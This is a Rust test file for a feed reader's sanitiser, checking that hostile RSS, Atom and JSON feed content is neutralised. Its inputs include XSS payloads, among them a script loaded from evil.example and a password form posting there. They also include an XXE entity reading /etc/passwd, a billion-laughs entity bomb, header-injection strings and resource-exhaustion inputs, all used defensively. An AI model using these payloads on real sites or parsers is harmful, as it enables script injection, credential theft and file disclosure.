//! What a hostile source sends does not reach a reader.

use crate::made_articles::{article, articles, read, rss};

#[test]
fn nothing_in_an_article_acts_loads_or_styles() {
    for html in [
        "<script>bad()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>bad()</scr</script>ipt>",
        "<img src=x onerror=bad()>",
        "<a href=\"https://example.org\" onmouseover=\"bad()\">x</a>",
        "<a href=\"javascript:bad()\">x</a>",
        "<a href=\"&#106;avascript:bad()\">x</a>",
        "<a href=\"java\tscript:bad()\">x</a>",
        "<a href=\"data:text/html,<script>bad()</script>\">x</a>",
        "<form action=\"https://evil.example\"><input name=password><button>x</button></form>",
        "<iframe src=https://evil.example></iframe>",
        "<svg><animate onbegin=bad() attributeName=x></svg>",
        "<svg><style><img src=x onerror=bad()></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=bad()></style></mglyph></table></mtext></math>",
        "<style>body{display:none}</style>",
        "<p style=\"background:url(javascript:bad())\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<object data=x><embed src=x></object>",
        "<base href=\"https://evil.example/\"><a href=x>x</a>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<noscript><p title=\"</noscript><img src=x onerror=bad()>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=bad()>\">",
        "<p id=a class=b name=c>x</p>",
        "<!--><img src=x onerror=bad()>-->",
        "<template><script>bad()</script></template>",
    ] {
        let article = article(html);
        assert!(
            !article.content.contains("evil.example") || !article.content.contains("src"),
            "{}",
            article.content
        );
        for word in ["onerror", "onbegin", "onmouseover", "javascript:", "position", "class=", " id="] {
            assert!(!article.content.contains(word), "{word} in {} of {html}", article.content);
        }
    }
}

#[test]
fn an_unclosed_anything_ends_with_its_article() {
    for html in [
        "<b><a href=/x>",
        "<!-- never closed",
        "<div><table><tr><td>",
        "<a href=\"never closed",
        "<script>",
        "<svg>",
        "<p title='",
    ] {
        let items = format!(
            "<item><title>One</title><link>/1</link><description><![CDATA[{html}]]></description></item>\
             <item><title>Two</title><link>/2</link><description>second text</description></item>"
        );
        let articles = articles(&rss(&items));
        assert_eq!(articles.len(), 2, "{html}");
        assert_eq!(
            (articles[1].title.as_str(), articles[1].summary.as_str()),
            ("Two", "second text"),
            "{html}"
        );
        let content = &articles[0].content;
        assert_eq!(content.matches("<b>").count(), content.matches("</b>").count(), "{content}");
    }
}

#[test]
fn line_breaks_nul_and_bidi_overrides_do_not_get_into_titles_and_names() {
    let item = "<item><title>Good&#13;&#10;Bcc: x@example.org&#10;&#0;\u{1}\u{7f}</title><link>/a</link>\
                <author>x@example.org (Ann&#13;&#10;To: y)</author><description>a\u{202e}b\u{2067}c</description>\
                <category>One&#10;Two</category><category>one two</category></item>";
    let article = &articles(&rss(item))[0];
    assert_eq!(article.title, "Good Bcc: x@example.org");
    assert_eq!(article.author.as_deref(), Some("Ann To: y"));
    assert_eq!(article.summary, "abc");
    assert_eq!(article.topics, ["one two"]);
}

#[test]
fn holes_cannot_be_made_by_a_source() {
    let holes = "\u{10FF01}\u{10FF02}&#x10FF01;";
    let item = format!(
        "<item><title>a{holes}</title><link>/x{holes}</link><author>b{holes}</author><category>c{holes}</category>\
         <description><![CDATA[<p>{holes}<a href=\"/{holes}\">d</a><img src=\"/e.png\" alt=\"{holes}\">]]></description></item>"
    );
    let article = &articles(&rss(&item))[0];
    let all = format!("{article:?}");
    assert!(!all.contains("10ff01") && !all.to_lowercase().contains("%f4%8f%bc%81"), "{all}");
}

#[test]
fn giant_titles_and_addresses_are_cut_or_replaced() {
    let long_url = format!("https://example.org/{}", "a".repeat(5_000));
    let item = format!(
        "<item><title>{}</title><link>{long_url}</link><guid>https://example.org/short</guid><description>x</description></item>\
         <item><title>b</title><link>{long_url}</link></item>",
        "word ".repeat(4_000)
    );
    let articles = articles(&rss(&item));
    assert_eq!(articles[0].url.as_str(), "https://example.org/short");
    assert_eq!(articles[1].url.as_str(), "https://example.org/");
    assert!(articles[0].title.ends_with('…'));
}

#[test]
fn entities_are_never_expanded() {
    let mut bomb = "<!DOCTYPE rss [<!ENTITY a0 \"boom\">".to_owned();
    for n in 1..40 {
        bomb.push_str(&format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)));
    }
    bomb.push_str("<!ENTITY file SYSTEM \"file:///etc/passwd\">]>");
    bomb.push_str(&rss("<item><title>x &a39; &file;</title><link>/a</link></item>"));
    let articles = articles(&bomb);
    assert_eq!(articles[0].title, "x &a39; &file;");
}

#[test]
fn deep_nesting_costs_nothing() {
    let deep = 50_000;
    let html = format!("{}x{}", "<div>".repeat(deep), "</div>".repeat(deep));
    assert!(article(&html).content.len() < 2_000);
    let xml = format!("{}{}", "<x>".repeat(deep), "</x>".repeat(deep));
    let item = "<item><title>T</title><link>/a</link></item>";
    assert_eq!(articles(&rss(&format!("{xml}{item}"))).len(), 1);
    let inside = format!("<item><title>T</title><description>{xml}</description></item>{item}");
    assert_eq!(articles(&rss(&inside)).len(), 2);
}

#[test]
fn text_made_to_be_slow_costs_no_more_than_its_length() {
    let many: String = (0..20_000).map(|n| format!(" a{n}")).collect();
    let slow = [
        "<script>".repeat(4_000),
        "<a href=\"<a href='".repeat(2_000),
        "[…]".repeat(10_000),
        "The post ".repeat(4_000),
        "<b><i>".repeat(5_000),
        format!("<p{many}>"),
        "&".repeat(40_000),
        "&a".repeat(20_000),
        "<!--".repeat(10_000),
        "e\u{301}\u{30d}".repeat(10_000),
        "\u{2067}".repeat(20_000),
    ];
    let items: String = slow
        .iter()
        .enumerate()
        .map(|(n, text)| {
            format!(
                "<item><link>/{n}</link><title><![CDATA[{text}]]></title><description><![CDATA[{text}]]></description></item>"
            )
        })
        .collect();
    assert_eq!(articles(&rss(&items)).len(), slow.len());
}

#[test]
fn what_a_feed_says_of_itself_costs_its_length_once_and_not_in_every_entry() {
    let long = "x".repeat(100_000);
    let items = "<entry><title>T</title></entry>".repeat(500);
    let names = format!("<author><name>{long}</name></author>").repeat(3)
        + &(0..500).map(|n| format!("<author><name>{n}</name></author>")).collect::<String>();
    let atom =
        format!("<feed xmlns='http://www.w3.org/2005/Atom' xml:lang='en-{long}'>{names}{items}</feed>");
    let item = serde_json::json!({"title": "T"});
    let authors: Vec<_> = (0..500).map(|n| serde_json::json!({"name": format!("{n}{long}")})).collect();
    let json = serde_json::json!({"version": "https://jsonfeed.org/version/1.1", "language": long,
        "authors": authors[..50], "items": vec![item; 500]});
    let many: String = (0..5_000)
        .map(|n| {
            format!("<category>{n}</category><dc:creator>{n}</dc:creator><media:thumbnail url='{n}.png'/>")
        })
        .collect();
    let crowd = rss(&format!("<item xml:lang='{long}'><title>T</title>{many}</item>"));
    for (document, entries) in [(atom, 500), (json.to_string(), 500), (crowd, 1)] {
        let feed = read(&document);
        assert_eq!(feed.entries.len(), entries);
        for entry in &feed.entries {
            assert!((1..=20).contains(&entry.authors.len()) && entry.topics.len() <= 20);
            let names: usize = entry.authors.iter().chain(&entry.topics).map(String::len).sum();
            let language = entry.language.as_ref().map_or(0, String::len);
            assert!(names <= 20 * 1_000 && language <= 35 && entry.pictures.len() <= 30);
        }
    }
}
